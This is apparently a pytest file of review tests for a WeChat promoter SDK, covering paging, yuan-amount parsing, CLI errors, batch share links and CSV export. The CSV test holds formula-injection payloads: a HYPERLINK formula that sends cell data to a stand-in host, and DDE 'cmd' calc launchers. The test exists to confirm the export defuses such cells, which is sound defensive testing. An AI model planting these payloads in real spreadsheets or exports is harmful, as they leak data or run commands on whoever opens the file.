"""Hostile review of issue 13 (the promoter endpoints): each test shows one defect found in review.

Each one fails on the code as reviewed and should pass once the defect is fixed; the report of the
review names the file and line of each. Real loopback servers (tests/loopback.py) and the sandbox,
nothing mocked.
"""

from __future__ import annotations

import contextlib
import csv
import io
from pathlib import Path
from typing import Any

import pytest

from promosdk import WeChatUnionClient
from promosdk._serde import DecodeError, structure
from promosdk._serde_scalars import yuan_to_fen
from promosdk.batch import BatchInputError, BatchOptions, BatchRun, SpotSpec
from promosdk.models import GenerateProductItem, OrderProduct
from promosdk.orders import OrdersExport, decode_rows
from promosdk.testing import sandbox
from tests.loopback import LoopbackServer, Recorded, stable_token_handler, wechat_ok
from tests.test_batch_share_links import CONFIG, FAST, SPOT, inputs, read_lines, seed_plans
from tests.test_cli import run_cli, sandbox_env
from tests.test_orders_export import _products, until_after_now

APPID = "wxloopback00000001"
SECRET = "loopback-app-secret-0123456789"
SEARCH = "/union/promoter/order/search"


def _line(i: int, commission: str = "-") -> dict[str, Any]:
    return {
        "productId": f"p{i}",
        "title": "t",
        "price": "¥1.00",
        "ratio": 100,
        "commissionStatus": "SETTLEMENT_PENDING",
        "commission": commission,
        "promotionInfo": {"promotionSourcePid": "pid-1", "promotionSourceName": "spot"},
    }


def _orders(n: int) -> list[dict[str, Any]]:
    return [
        {"orderId": f"o{i:04d}", "payTime": 1_700_000_000 + i, "productList": [_line(i)]} for i in range(n)
    ]


def _paged(orders: list[dict[str, Any]], cap: int) -> Any:
    """order/search as documented (page from 1, pageSize), but never more than ``cap`` a page, and
    the size it used in the answer's pageSize (as the vendor's sample shows)."""

    def handler(record: Recorded) -> Any:
        page = int(record.query.get("page", "1"))
        size = min(int(record.query.get("pageSize", "10")), cap)
        return wechat_ok(
            orderList=orders[(page - 1) * size : page * size], totalNum=len(orders), pageSize=size
        )

    return handler


# ------------------------------------------------------------------ page-style paging (order/search)


async def test_page_paging_advances_by_page_number_when_the_server_caps_the_page_size(tmp_path: Path) -> None:
    """The 200 maximum of pageSize is [UNVERIFIED]; a server that serves 100 a page must still be
    walked page 1, 2, 3. The paginator derives the page number from the items seen
    (``first + start // limit``), so after a short page it asks for page 1 again and fails."""
    orders = _orders(250)
    async with LoopbackServer() as server:
        server.route("/cgi-bin/stable_token", stable_token_handler(["loopback-token-0001"]))
        server.route(SEARCH, _paged(orders, cap=100))
        async with WeChatUnionClient(APPID, SECRET, base_url=server.url) as wx:
            seen = [order.order_id async for order in wx.order.iter_search(page_size=200)]
            assert sorted(seen) == [o["orderId"] for o in orders]
            pages = [r.query.get("page") for r in server.requests if r.path == SEARCH]
            assert pages == ["1", "2", "3"]
            summary = await OrdersExport(
                wx, tmp_path / "o.csv", since=0, until=1_800_000_000, progress=False
            ).run()
    assert summary.complete and summary.rows == 250 and summary.short_by == 0


# ------------------------------------------------------------------ one odd line must not sink an export


async def test_an_export_reads_a_grouped_amount_instead_of_stopping(tmp_path: Path) -> None:
    """A thousands-grouped amount ("¥1,000.00") was refused with the whole order/search page, so one
    line stopped every export of the window for good; it is now read (text no yuan grammar can
    read stays a BadResponseError naming its wire path: tests/test_promoter_fixtures.py)."""
    orders = _orders(3)
    orders[1]["productList"][0]["commission"] = "¥1,000.00"
    async with LoopbackServer() as server:
        server.route("/cgi-bin/stable_token", stable_token_handler(["loopback-token-0001"]))
        server.route(SEARCH, _paged(orders, cap=200))
        async with WeChatUnionClient(APPID, SECRET, base_url=server.url, max_retries=0) as wx:
            summary = await OrdersExport(
                wx, tmp_path / "o.jsonl", since=0, until=1_800_000_000, progress=False
            ).run()
    rows = list(decode_rows((tmp_path / "o.jsonl").read_bytes(), "jsonl"))
    assert summary.complete and len(rows) == 3
    odd = next(r for r in rows if r["order_id"] == "o0001")
    assert (odd["commission"], odd["commission_fen"]) == ("¥1,000.00", 100_000)


# ------------------------------------------------------------------ money


# full-width "¥12", Arabic-Indic "¥3.50", a full-width digit among ASCII ones
@pytest.mark.parametrize("text", ["¥\uff11\uff12", "¥\u0663.\u0665\u0660", "¥0.\uff120"])
def test_yuan_amounts_with_non_ascii_digits_are_refused(text: str) -> None:
    """_serde_scalars._YUAN uses ``\\d``, which matches every Unicode decimal digit: "¥" and two
    full-width digits decoded as 1200 fen, an Arabic-Indic 3 as 300."""
    wire = _line(0, commission=text)
    with pytest.raises(DecodeError):
        structure(wire, OrderProduct)


def test_a_negative_amount_with_its_sign_before_the_yuan_sign() -> None:
    """Both "¥-0.30" and "-0.30" are read (the module means to handle negative amounts), but "-¥0.30",
    the usual zh-CN rendering of a negative yuan amount, fails the whole page."""
    assert yuan_to_fen("¥-0.30") == -30
    assert yuan_to_fen("-¥0.30") == -30
    assert structure(_line(0, commission="-¥0.30"), OrderProduct).commission_fen == -30


# ------------------------------------------------------------------ CSV export: formula injection


async def test_csv_export_does_not_write_cells_a_spreadsheet_runs_as_formulas(tmp_path: Path) -> None:
    """customizeInfo (and titles, spot and shop names) go into orders.csv verbatim: a value starting
    with '=' / '+' / '@' is run as a formula by Excel or LibreOffice when the export is opened."""
    payloads = [
        '=HYPERLINK("http://evil.test/?x="&A2,"click")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    async with sandbox(plans=1) as sb:
        wx = sb.wechat
        spot = await wx.promotion.add(promotion_source_name="csv spot")
        product = _products(sb)[0]
        links = await wx.product.generate(
            pid=spot.pid,
            product_list=[GenerateProductItem(product_id=product.product_id, app_id=product.shop.app_id, customize_info=p)
                          for p in payloads[:1]],
        )  # fmt: skip
        url = links.materials[0].share_info.promotion_url
        for payload in payloads:
            await sb.admin.purchase(promotion_url=url, customize_info=payload)
        until = await until_after_now(sb)
        await OrdersExport(wx, tmp_path / "orders.csv", since="2020-01-01", until=until, progress=False).run()
    table = list(csv.DictReader(io.StringIO((tmp_path / "orders.csv").read_text(encoding="utf-8"))))
    assert len(table) == len(payloads)
    cells = [row[column] for row in table for column in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


# ------------------------------------------------------------------ CLI: JSON model options


async def test_cli_json_model_option_of_the_wrong_shape_is_a_usage_error() -> None:
    """cli/commands.py:_json_option catches PromoSDKError, but structure() raises DecodeError (a
    ValueError): a wrong value type in --shipping-methods / --product-list prints a Python traceback
    (exit 1) instead of a usage error (exit 2)."""
    async with sandbox(plans=1) as sb:
        env = sandbox_env(sb.url)
        for args in (
            ("wechat", "product", "list", "--shipping-methods", '{"express": "1"}'),
            ("wechat", "product", "list", "--shipping-methods", "[1]"),
            ("wechat", "product", "generate", "--pid", "x", "--product-list", "[1]"),
        ):
            result = await run_cli(*args, env=env)
            assert "Traceback" not in result.stderr, (args, result.stderr[-300:])
            assert result.code == 2, (args, result.code)


# ------------------------------------------------------------------ batch share-links step


async def test_share_links_after_a_too_long_customize_info_are_added_by_a_fixed_rerun(tmp_path: Path) -> None:
    """--share-customize-info is checked without its {plan_id} (cli/batch_cmd.py), BatchOptions not at
    all; once substituted it is over 80 characters, so every agreed plan fails at its last step with a
    *final* line (campaign and customers already pushed), and a re-run with a short template skips
    those lines: the links are never made."""
    output = tmp_path / "results.jsonl"
    template = "x" * 76 + "{plan_id}"  # 76 + a 5-digit plan id = 81 characters
    async with sandbox(CONFIG, plans=[]) as sb:
        plans = await seed_plans(sb)
        first = BatchOptions(share_spot=SPOT, share_customize_info=template, **FAST)
        with contextlib.suppress(BatchInputError):  # refusing the template before the run is a fix too
            await BatchRun(
                sb.wechat, sb.waiqin, inputs(plans), output, spots=[SpotSpec(SPOT)], options=first
            ).run()
        fixed = BatchOptions(share_spot=SPOT, share_customize_info="p-{plan_id}", **FAST)
        await BatchRun(
            sb.wechat, sb.waiqin, inputs(plans), output, spots=[SpotSpec(SPOT)], options=fixed
        ).run()
    agreed = [line for line in read_lines(output) if line.get("status") == "agreed"]
    assert len(agreed) == 2
    assert all(line["ok"] and line.get("share_links") for line in agreed), agreed
